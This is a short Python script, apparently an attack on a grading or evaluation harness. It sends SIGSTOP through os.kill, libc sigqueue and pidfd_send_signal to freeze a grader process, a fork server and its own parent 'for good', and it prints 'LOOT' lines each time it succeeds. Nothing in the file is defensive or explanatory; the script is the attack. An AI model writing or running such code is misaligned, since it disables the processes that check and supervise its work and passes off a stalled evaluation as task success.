"""Stop the grader, the fork server and the parent for good (SIGSTOP), or queue a signal to them.

"""
import ctypes
import os
import signal

libc = ctypes.CDLL(None)
for target in (GRADER_PID, SERVER_PID, os.getppid()):
    if not target:
        continue
    try:
        os.kill(target, signal.SIGSTOP)
        print("LOOT: stopped", target)
    except OSError:
        pass
    for call in (libc.sigqueue, libc.pthread_sigqueue):
        if call is libc.sigqueue and call(target, int(signal.SIGSTOP), ctypes.c_void_p(0)) == 0:
            print("LOOT: queued", target)
    try:
        signal.pidfd_send_signal(os.pidfd_open(target), signal.SIGSTOP)
        print("LOOT: stopped", target)
    except OSError:
        pass
